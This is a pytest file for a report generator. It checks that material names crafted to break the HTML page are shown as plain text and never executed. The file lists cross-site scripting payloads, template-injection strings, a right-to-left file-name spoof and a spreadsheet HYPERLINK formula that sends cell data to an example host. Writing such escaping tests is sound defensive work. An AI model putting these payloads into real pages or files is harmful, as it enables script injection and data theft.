"""A run whose names try to break the page: nothing of them runs, everything is shown as text, and it stays in shape."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest

from simworth.report.page import write_page
from simworth.tables import PropertyTable

SCRIPT = "</script><script>window.bad = 1</script>"
IMAGE = "<img src=x onerror='window.bad = 2'>"
FORMULA = '=HYPERLINK("http://example.org?"&A1,"x")'
RIGHT_TO_LEFT = "\u202egnp.exe \u05e9\u05dc\u05d5\u05dd"
LONG = "very long name " * 20 + "x" * 300
NAMES = [
    SCRIPT,
    IMAGE,
    FORMULA,
    RIGHT_TO_LEFT,
    LONG,
    "${window.bad = 3}",
    "{{ 7 * 7 }}",
    "\\u003cb\\u003e",
    "&lt;b&gt;",
]


@pytest.fixture(scope="module")
def page_file(
    tmp_path_factory: pytest.TempPathFactory, settings: Any, truth: Any, make_run: Callable[..., Path]
) -> Path:
    arms = tuple((name, truth(1.2, 0.3, 0.2 + i / 20)) for i, name in enumerate((SCRIPT, FORMULA, RIGHT_TO_LEFT, LONG)))
    hostile = dataclasses.replace(
        settings(),
        targets=(IMAGE,),
        arms=arms,
        sizes=(100, 300, 1000, 3000),
        m=(60,),
        replicates=4,
        materials=60,
        control=False,
        unit="<b>eV</b>",
    )
    run = make_run(tmp_path_factory.mktemp("hostile") / "run", hostile)
    path = run / "inputs" / "target-0.parquet"
    table = PropertyTable.from_parquet(path)
    names = [NAMES[i % len(NAMES)] + str(i) for i in range(len(table))]
    place = table.data.schema.get_field_index("material")
    PropertyTable(table.about, table.data.set_column(place, "material", pa.array(names))).to_parquet(path)
    return write_page([run], run / "report.html")


def test_nothing_of_it_runs_and_all_of_it_is_shown(page_file: Path, open_page: Any) -> None:
    page = open_page(page_file)
    assert page.evaluate("window.bad") is None
    assert page.log == []
    words = page.locator("body").text_content()
    for name in (SCRIPT, IMAGE, FORMULA, RIGHT_TO_LEFT):
        assert name in words
    assert "&lt;img" not in page.locator("h1").text_content()
    options = page.locator("#t0-curve option").all_text_contents()
    assert any(SCRIPT in option for option in options)


def test_points_with_such_names_are_told_as_text(page_file: Path, open_page: Any) -> None:
    page = open_page(page_file)
    canvas = page.locator('[data-chart="parity"] .canvas').first
    canvas.focus()
    seen = set()
    for _ in range(60):
        canvas.press("ArrowRight")
        tip = canvas.locator(".tip")
        assert tip.locator("*").count() == 0
        seen.add(tip.text_content())
    assert sum(any(name in told for told in seen) for name in NAMES) == len(NAMES)
    assert page.evaluate("window.bad") is None


@pytest.mark.parametrize("width", [360, 1200])
def test_it_stays_in_shape(page_file: Path, open_page: Any, width: int) -> None:
    page = open_page(page_file, width=width)
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
